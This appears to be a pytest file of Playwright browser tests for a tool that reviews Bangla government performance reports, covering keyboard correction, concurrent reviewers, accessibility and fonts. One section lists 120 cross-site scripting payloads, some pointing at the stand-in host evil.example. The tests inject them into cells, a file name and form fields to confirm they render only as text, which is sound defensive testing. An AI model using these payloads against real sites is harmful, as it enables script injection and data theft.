"""The page in Chromium: by keyboard alone, sums in sight, no foreign script, no serious barrier."""

import re
import shutil
import time
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from tests.audit_browser import CHROMIUM, FLAGS, Served, serving
from tests.audit_site import ODD, OFFICIAL, ROOT, convert_again, converted, report_ids, report_of

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not on this machine"),
    pytest.mark.timeout(240),
]
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

SIZES = {"laptop": (1366, 768), "wide": (1920, 1080), "phone": (390, 844)}
WEIGHT = "indicator:1.1.1/weight"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield opened
        opened.close()


class Visit:
    """A page of one reviewer, and everything that must not happen on it."""

    def __init__(self, browser: Any, served: Served, size: str = "laptop") -> None:
        width, height = SIZES[size]
        self.context = browser.new_context(viewport={"width": width, "height": height})
        self.page = self.context.new_page()
        self.served = served
        self.home = f"http://127.0.0.1:{served.port}"
        self.troubles: list[str] = []
        self.page.on("dialog", self._dismiss)
        self.page.on("pageerror", self._tell)
        self.page.on("request", self._note)
        self.page.goto(served.address)
        self.page.wait_for_url(f"{self.home}/")

    def _dismiss(self, dialog: Any) -> None:
        self.troubles.append("dialog")
        dialog.dismiss()

    def _tell(self, error: object) -> None:
        self.troubles.append(str(error))

    def _note(self, request: Any) -> None:
        if not request.url.startswith((self.home, "data:")):
            self.troubles.append(request.url)

    def open(self, path: str) -> None:
        self.page.goto(self.home + path)
        self.page.wait_for_load_state("networkidle")

    def press(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)

    def close(self) -> None:
        self.context.close()
        assert self.troubles == []


def wait_for(said: Any) -> None:
    deadline = time.monotonic() + 10
    while not said():
        assert time.monotonic() < deadline, "it did not happen"
        time.sleep(0.02)


def test_a_value_is_corrected_by_keyboard_and_the_next_run_applies_it(
    browser: Any, tmp_path: Path
) -> None:
    out = converted(tmp_path)
    with serving(out) as served:
        visit = Visit(browser, served)
        page = visit.page
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.className") == "skip"
        page.get_by_role("link", name="রেলপথ মন্ত্রণালয়").focus()
        visit.press("Enter")
        page.wait_for_selector(".item.now")
        path = f"/report/{report_ids(out)[ODD]}"
        visit.open(f"{path}#{WEIGHT}")
        wait_for(lambda: page.locator(".lit").count() == 2)
        assert page.locator(".src.lit").inner_text() == "১০"
        assert "✓" in page.locator("#sums li").first.inner_text()
        visit.press("c", "Control+a")
        page.keyboard.type("৯")
        wait_for(lambda: "✗" in page.locator("#sums li").first.inner_text())
        assert "9" in page.locator("#means").inner_text()
        visit.press("Enter")
        wait_for(lambda: page.locator("#said").inner_text().startswith("Saved"))
        page.reload()
        page.wait_for_load_state("networkidle")
        cell = page.locator(f'.cell[data-key="{WEIGHT}"]')
        assert "corrected: ৯" in cell.inner_text()
        assert "১০" in cell.inner_text()
        visit.close()
    convert_again(out)
    report = report_of(out, ODD)
    weight = report["sections"][0]["activities"][0]["indicators"][0]["weight"]
    assert (weight["raw"], weight["value"]) == ("১০", 9)
    (told,) = [one for one in report["findings"] if one["code"] == "corrected"]
    assert told["evidence"]["by"] == "Tester"
    assert report["arithmetic"]["sections"][0]["difference"] == 1


def test_pointing_at_either_side_lights_the_other(browser: Any, tmp_path: Path) -> None:
    out = converted(tmp_path)
    with serving(out) as served:
        visit = Visit(browser, served)
        page = visit.page
        visit.open(f"/report/{report_ids(out)[ODD]}")
        page.locator('.cell[data-key="indicator:1.1.1/text"]').hover()
        assert "কমপক্ষে" in page.locator(".src.lit").inner_text()
        page.locator(".src", has_text="১৫.০৩.২০২৩").hover()
        assert page.locator(".cell.lit").get_attribute("data-key") == "indicator:1.1.1/remark"
        page.locator("#paper").focus()
        visit.press("ArrowDown", "ArrowDown")
        assert page.locator(".cell.lit").count() == 1
        page.locator("#grid").focus()
        visit.press("ArrowRight", "Enter")
        assert page.locator("#read-raw").inner_text()
        visit.close()


def test_both_samples_are_reviewed_by_keyboard_with_at_most_two_keys_each(
    browser: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = converted(tmp_path)
    presses = decided = 0
    started = time.monotonic()
    with serving(out) as served:
        visit = Visit(browser, served)
        page = visit.page
        for sample in (ODD, OFFICIAL):
            visit.open(f"/report/{report_ids(out)[sample]}")
            open_items = ".item:not(.done)"
            while page.locator(open_items).count():
                now = page.locator(".item.now")
                before = page.locator(".item.done").count()
                has_candidate = page.locator("#candidates button").count() > 0
                if now.get_attribute("class") and "done" in (now.get_attribute("class") or ""):
                    visit.press("j")
                    presses += 1
                    continue
                visit.press("1" if has_candidate else "a")
                presses += 1
                wait_for(lambda b=before: page.locator(".item.done").count() > b)
                decided = page.locator(".item.done").count() if sample == ODD else decided
            decided += page.locator(".item.done").count() if sample == OFFICIAL else 0
        visit.close()
    with capsys.disabled():
        print(  # noqa: T201  # the figure that reviewers ask for
            f"\n{decided} findings decided with {presses} keys ({presses / decided:.2f} each) "
            f"in {time.monotonic() - started:.0f} s"
        )
    assert decided > 20
    assert presses <= 2 * decided


REAL = ROOT.parent / "shared" / "real" / "apa-guidelines-2021-22-p73-74.pdf"


@pytest.mark.skipif(not REAL.is_file(), reason="the shared folder is not beside the project")
def test_a_page_of_a_pdf_shows_the_box_of_a_value(browser: Any, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    shutil.copy(REAL, tmp_path / "in")
    out = tmp_path / "out"
    convert_again(out)
    (report,) = out.glob("*/*-egov_innovation-*.json")
    with serving(out) as served:
        visit = Visit(browser, served)
        page = visit.page
        visit.open(f"/report/{report.stem}#indicator:2.2.5/targets/100")
        wait_for(lambda: page.locator(".sheet rect.lit").count() == 1)
        box = page.locator(".sheet rect.lit").bounding_box()
        paper = page.locator("#paper").bounding_box()
        assert box
        assert paper
        assert box["width"] > 10
        assert paper["y"] <= box["y"] <= paper["y"] + paper["height"]
        page.locator("body").press("b")
        wait_for(lambda: page.locator("#blink").get_attribute("aria-pressed") == "true")
        assert "২০২২" in page.locator(".again-set").first.text_content()
        visit.close()


def test_two_reviewers_at_once_see_both_values(browser: Any, tmp_path: Path) -> None:
    out = converted(tmp_path)
    with serving(out) as served:
        first, second = Visit(browser, served), Visit(browser, served)
        for visit in (first, second):
            visit.open(f"/report/{report_ids(out)[ODD]}#{WEIGHT}")
            wait_for(lambda v=visit: v.page.locator(".lit").count() == 2)
        for visit, text in ((first, "৯"), (second, "৮")):
            visit.press("c", "Control+a")
            visit.page.keyboard.type(text)
            visit.press("Enter")
            wait_for(lambda v=visit: v.page.locator("#said").inner_text())
        said = second.page.locator("#said").inner_text()
        assert "Theirs: Tester corrected: ৯" in said
        assert "Yours: ৮" in said
        for visit in (first, second):
            visit.close()


def test_the_group_view_confirms_all_that_read_the_same(browser: Any, tmp_path: Path) -> None:
    out = converted(tmp_path)
    with serving(out) as served:
        visit = Visit(browser, served)
        visit.open("/values?column=weight&raw=৪")
        tiles = visit.page.locator(".tile").count()
        assert tiles > 1
        visit.page.locator("#confirm").focus()
        visit.press("Enter")
        wait_for(lambda: visit.page.locator("#confirmed").inner_text() == f"{tiles}/{tiles}")
        visit.open("/values?column=weight&raw=৪")
        assert visit.page.locator(".tile.done").count() == tiles
        visit.close()


# ---- hostile content

MARK = "window.executed=1"
PAYLOADS = [
    before + body
    for before in ("", '">', "'>", "</script>", "</textarea>", "]]>")
    for body in (
        f"<script>{MARK}</script>", f"<img src=x onerror={MARK}>", f"<svg onload={MARK}>",
        f"<iframe src=javascript:{MARK}>", f"<a href=javascript:{MARK}>x</a>",
        f"<body onload={MARK}>", f"<input autofocus onfocus={MARK}>",
        f"<details open ontoggle={MARK}>",
        f"<math><mtext><img src=x onerror={MARK}>", f"{{{{constructor.constructor('{MARK}')()}}}}",
        f"<style>@import 'http://evil.example/x'</style><img src=http://evil.example/{MARK}>",
        f"javascript:{MARK}", f"<object data=javascript:{MARK}>",
        "<form action=http://evil.example><button autofocus>",
        "<base href=http://evil.example/>", "<meta http-equiv=refresh content=0;url=http://evil.example>",
        "<link rel=stylesheet href=http://evil.example/x.css>", f"<video><source onerror={MARK}>",
        f"\" onmouseover={MARK} x=\"", f"' onfocus={MARK} autofocus='",
    )
]  # fmt: skip


def test_no_cell_name_or_reason_becomes_anything_but_text(browser: Any, tmp_path: Path) -> None:
    assert len(PAYLOADS) == 120
    out = converted(tmp_path, ODD)
    source = tmp_path / "in" / f"{ODD}.tsv"
    lines = source.read_text("utf-8").split("\n")
    rows = [n for n, line in enumerate(lines) if re.search(r"\[[১-৯]\.[১-৯]\.[১-৯]\]", line)]
    per_row = -(-len(PAYLOADS) // len(rows))
    for place, n in enumerate(rows):
        lines[n] += " " + " ".join(PAYLOADS[place * per_row : (place + 1) * per_row])
    name = "a\"'><img src=x onerror=window.executed=1>.tsv"
    (tmp_path / "in" / name).write_text("\n".join(lines), encoding="utf-8")
    source.unlink()
    convert_again(out)
    (report_id,) = [one for file, one in report_ids(out).items() if "onerror" in file]
    with serving(out) as served:
        visit = Visit(browser, served)
        page = visit.page
        visit.open(f"/report/{report_id}#{WEIGHT}")
        page.fill("#by", PAYLOADS[1])
        page.locator("#by").dispatch_event("change")
        visit.press("Tab")
        page.locator("#items").focus()
        visit.press("c")
        page.fill("#why", PAYLOADS[21])
        page.locator("#why").press("Enter")
        wait_for(lambda: page.locator("#said").inner_text().startswith("Saved"))
        for path in (f"/report/{report_id}", "/", "/values", "/overview", f"/?q={PAYLOADS[20]}"):
            visit.open(path)
            for language in ("bn", "en"):
                visit.open(f"{path.partition('?')[0]}?lang={language}")
            assert page.evaluate("window.executed") is None
            made = page.evaluate(
                "document.querySelectorAll('iframe,object,math,base,video,style,"
                "meta[http-equiv],[onerror],[onload],[onfocus],[onmouseover]').length"
            )
            assert made == 0
            assert page.evaluate("[...document.scripts].every(s => s.src.includes('/static/'))")
        dossier = tmp_path / "dossier.html"
        answer = visit.context.request.get(f"{visit.home}/report/{report_id}/dossier")
        dossier.write_bytes(answer.body())
        visit.close()
    context = browser.new_context()
    opened = context.new_page()
    asked: list[str] = []

    def note(request: Any) -> None:
        asked.append(request.url)

    opened.on("request", note)
    opened.goto(dossier.as_uri())
    assert opened.evaluate("window.executed") is None
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []
    assert PAYLOADS[0] in opened.locator("body").inner_text()
    context.close()


# ---- for everybody


def axe_script() -> str:
    spec = find_spec("axe_playwright_python")
    if spec is None or spec.origin is None:
        pytest.skip("axe-core is not installed")
    return (Path(spec.origin).parent / "axe.min.js").read_text(encoding="utf-8")


@pytest.mark.parametrize("size", SIZES)
def test_nothing_bars_the_way(browser: Any, tmp_path: Path, size: str) -> None:
    out = converted(tmp_path)
    axe = axe_script()
    with serving(out) as served:
        visit = Visit(browser, served, size)
        page = visit.page
        serious: list[str] = []
        for path in (
            "/",
            "/values?column=weight&raw=৪",
            "/overview",
            f"/report/{report_ids(out)[ODD]}",
        ):
            for language in ("en", "bn") if size == "laptop" else ("bn",):
                visit.open(f"{path}{'&' if '?' in path else '?'}lang={language}")
                page.evaluate(axe)
                found = page.evaluate("axe.run().then(r => r.violations)")
                serious += [
                    f"{path} {one['id']}: {one['nodes'][0]['html'][:150]}"
                    for one in found
                    if one["impact"] in ("serious", "critical")
                ]
                too_wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
                assert too_wide <= 0, f"{path} scrolls sideways"
        visit.close()
    assert serious == []


def test_bangla_is_set_in_the_font_that_comes_with_the_page(browser: Any, tmp_path: Path) -> None:
    out = converted(tmp_path)
    with serving(out) as served:
        visit = Visit(browser, served)
        visit.open("/")
        assert visit.page.evaluate("document.fonts.check('16px \"Noto Sans Bengali\"', 'ক')")
        loaded = visit.page.evaluate(
            "[...document.fonts].filter(f => f.status === 'loaded').length"
        )
        assert loaded >= 1
        visit.close()
